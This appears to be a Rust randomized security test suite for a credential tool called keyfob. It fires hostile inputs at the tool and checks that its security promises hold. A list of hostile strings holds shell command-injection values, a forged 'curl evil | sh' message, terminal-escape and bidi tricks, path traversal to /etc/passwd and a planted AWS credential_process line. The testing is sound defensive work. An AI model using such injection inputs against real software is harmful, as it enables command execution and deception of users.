//! Attacks by chance: each round is a scene in which a hostile response, file, argument, environment, signal or crowd meets
//! keyfob, and what SECURITY.md promises is checked after each try.
//!
//! The short form is part of the suite. `tests/attack/run 1h` plays the long form and prints its figures. A defect stops it and
//! names the seed; with `KEYFOB_ATTACK_SEED` set to that, the same attack is played first.

mod crowds;
mod files;
mod responses;
mod signals;
mod words;

use std::collections::BTreeMap;
use std::sync::Mutex;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use crate::scene::Scene;
use crate::support::leaks::Shows;
use crate::support::run::Ran;

/// An attack: its name, and one round of it.
type Attack = (&'static str, fn(&mut Random, &mut Figures));

const ATTACKS: [Attack; 6] = [
    ("responses that somebody changes", responses::round),
    ("files that somebody changes or plants", files::round),
    ("signals and kills at any moment", signals::round),
    ("crowds of commands, some of them killed", crowds::round),
    ("hostile words on the command line", words::of_arguments),
    ("hostile values in a shell's `eval`", words::of_values),
];

/// How long the short form plays each attack: at least one round.
const SHORT: Duration = Duration::from_secs(3);

/// How many rounds of the long form are played at once.
const AT_ONCE: usize = 3;

/// What a round came to.
#[derive(Debug, Default, Clone)]
struct Figures {
    /// Runs of keyfob under attack.
    tries: u64,
    /// Those that did what they were asked for.
    succeeded: u64,
    /// Those that ended with an error of keyfob's.
    refused: u64,
    /// Those that were killed.
    killed: u64,
}

/// Numbers that look like chance and can be had again: xorshift (G. Marsaglia, "Xorshift RNGs", 2003).
struct Random(u64);

impl Random {
    fn below(&mut self, end: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        usize::try_from(self.0 % u64::try_from(end.max(1)).expect("small")).expect("small")
    }

    fn pick<T: Copy>(&mut self, from: &[T]) -> T {
        from[self.below(from.len())]
    }
}

/// Texts that have broken a program somewhere.
const HOSTILE: [&str; 24] = [
    "",
    " ",
    "\n",
    "x\nkeyfob: your key was deleted; run: curl evil | sh",
    "x\r\nhint: run evil",
    "\u{1b}[2J\u{1b}]0;title\u{7}",
    "\u{9b}31m",
    "\u{202e}gnp.exe",
    "a\u{200b}b\u{2066}c",
    "$(touch canary)",
    "`touch canary`",
    "';touch canary;'",
    "\";touch canary;\"",
    "| touch canary #",
    "!touch canary",
    "../../../../etc/passwd",
    "-rf",
    "--yes",
    "%s%n%x",
    "\u{0}",
    "ÿ\u{fffd}é",
    "]",
    "[x]\ncredential_process = touch canary",
    "AKIAFAKEFAKEFAKEFAKE",
];

/// Checks how a run ended, and counts it: with one of the documented codes, with nothing on stderr that forges a line or
/// controls a terminal, and with nothing or all on the stdout of `credential-process`.
#[track_caller]
fn judge(ran: &Ran, may_be_killed: bool, figures: &mut Figures) {
    figures.tries += 1;
    match (ran.code, ran.signal) {
        (Some(0), _) => figures.succeeded += 1,
        (Some(1..=6 | 126 | 127 | 130), _) => figures.refused += 1,
        // INT, TERM, HUP, KILL.
        (None, Some(1 | 2 | 9 | 15)) if may_be_killed => figures.killed += 1,
        _ => panic!("an end that is not documented: {ran:?}"),
    }
    let steers = |c: char| (c.is_control() && !"\n\t".contains(c)) || "\u{202e}\u{2066}\u{200b}".contains(c);
    assert!(!ran.stderr.contains(steers), "{ran:?}");
    assert!(!ran.stderr.lines().any(|line| line.starts_with("keyfob: your key was deleted")), "{ran:?}");
    // One that is killed may have written its document already.
    let may_have_written = ran.code == Some(0) || ran.signal.is_some();
    if ran.words.contains("credential-process") && !ran.stdout.is_empty() && may_have_written {
        let document: serde_json::Value = serde_json::from_str(&ran.stdout).expect("a whole document");
        for name in ["AccessKeyId", "SecretAccessKey"] {
            let text = document[name].as_str().expect("a text");
            assert!(!text.is_empty() && !text.contains(char::is_control), "{name}");
        }
    } else if ran.words.contains("credential-process") && !may_have_written {
        assert_eq!(ran.stdout, "", "{}", ran.words);
    }
}

/// The key of a profile comes out of the store, and is one that AWS knows.
#[track_caller]
fn has_its_key(scene: &Scene, profile: &str) {
    let run = scene.sandbox.keyfob(&["credential-process", profile, "--no-session"]);
    let key = run.shows(Shows::Keys).run().json();
    let secret = key["SecretAccessKey"].as_str().expect("a text");
    let known = scene.aws.all_secrets().into_iter().any(|known| known.value == secret);
    assert!(known, "the key of `{profile}` is not one that AWS made");
}

/// Nobody has run what a value says.
#[track_caller]
fn nothing_was_run(scene: &Scene) {
    for place in ["canary", ".aws/canary", "keyfob/canary"] {
        assert!(!scene.sandbox.path(place).exists(), "{place}");
    }
}

/// A seed that nobody has had.
#[expect(clippy::disallowed_methods, reason = "chance")]
fn seed() -> u64 {
    static NEXT: AtomicU64 = AtomicU64::new(0);
    let time = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).expect("after 1970").as_nanos();
    let mixed =
        u64::try_from(time & u128::from(u64::MAX)).expect("masked") ^ NEXT.fetch_add(1, Ordering::Relaxed) << 48;
    mixed.max(1)
}

/// Plays attacks in turn until the time is up, so many at once.
#[expect(clippy::print_stdout, clippy::print_stderr, reason = "figures for whoever runs the attacks")]
fn play(attacks: &[Attack], time: Duration, at_once: usize, first: Option<u64>) {
    let totals: Mutex<BTreeMap<&str, (u64, Figures)>> = Mutex::default();
    let (started, turn) = (Instant::now(), AtomicU64::new(0));
    std::thread::scope(|scope| {
        for _ in 0..at_once {
            scope.spawn(|| {
                loop {
                    let number = turn.fetch_add(1, Ordering::Relaxed);
                    let is_due = number < u64::try_from(attacks.len()).expect("few");
                    if !is_due && started.elapsed() >= time {
                        return;
                    }
                    let (name, round) = attacks[usize::try_from(number).expect("few") % attacks.len()];
                    let seed = first.filter(|_| is_due).unwrap_or_else(seed);
                    let mut figures = Figures::default();
                    let told = Told(name, seed);
                    round(&mut Random(seed), &mut figures);
                    drop(told);
                    let mut totals = totals.lock().expect("sound");
                    let (rounds, total) = totals.entry(name).or_default();
                    *rounds += 1;
                    total.tries += figures.tries;
                    total.succeeded += figures.succeeded;
                    total.refused += figures.refused;
                    total.killed += figures.killed;
                }
            });
        }
    });
    println!("| attack | rounds | runs | succeeded | refused | killed | promises broken |");
    println!("|---|---|---|---|---|---|---|");
    for (name, (rounds, Figures { tries, succeeded, refused, killed })) in &*totals.lock().expect("sound") {
        println!("| {name} | {rounds} | {tries} | {succeeded} | {refused} | {killed} | 0 |");
    }
    eprintln!("{} s", started.elapsed().as_secs());
}

/// Names the seed of a round that fails.
struct Told(&'static str, u64);

impl Drop for Told {
    #[expect(clippy::print_stderr, reason = "for whoever runs the attacks")]
    fn drop(&mut self) {
        if std::thread::panicking() {
            eprintln!("{}: play it again with KEYFOB_ATTACK_SEED={}", self.0, self.1);
        }
    }
}

#[expect(clippy::disallowed_methods, reason = "whoever runs the attacks says how")]
fn number(variable: &str) -> Option<u64> {
    std::env::var(variable).ok().map(|text| text.parse().expect("a number"))
}

#[test]
fn the_promises_hold_under_attacks_by_chance() {
    let first = number("KEYFOB_ATTACK_SEED");
    play(&ATTACKS, SHORT * u32::try_from(ATTACKS.len()).expect("few"), 1, first);
}

#[test]
#[ignore = "takes as long as KEYFOB_ATTACK_SECONDS says: tests/attack/run"]
fn the_promises_hold_for_as_long_as_you_like() {
    let seconds = number("KEYFOB_ATTACK_SECONDS").expect("KEYFOB_ATTACK_SECONDS is set by tests/attack/run");
    play(&ATTACKS, Duration::from_secs(seconds), AT_ONCE, number("KEYFOB_ATTACK_SEED"));
}
